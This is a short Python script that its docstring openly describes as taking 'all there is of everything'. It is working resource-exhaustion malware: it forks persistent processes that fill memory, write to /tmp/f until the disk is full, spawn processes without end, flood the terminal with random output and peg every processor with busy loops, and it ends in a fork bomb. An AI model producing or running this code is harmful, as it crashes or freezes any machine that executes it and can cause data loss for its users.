"""
Takes all there is of everything, again and again: memory until it is killed, the disk until it is
full, processes until there are no more, the screen as fast as it scrolls, and every processor.
"""
import os


def always(take):
    if os.fork():
        return
    while True:
        try:
            take()
        except OSError:
            pass


def memory():
    if os.fork():
        os.wait()
        return
    taken = []
    while True:
        taken.append(os.urandom(1 << 20))


def disk():
    with open("/tmp/f", "wb", 0) as file:
        while True:
            file.write(b"x" * (1 << 20))


def processes():
    child = os.fork()
    if child:
        os.waitpid(child, 0)
    else:
        os._exit(0)


def screen():
    os.write(1, os.urandom(400).hex().encode())


for take in memory, disk, processes, screen:
    always(take)
for _ in range(60):
    always(int)
always(os.fork)
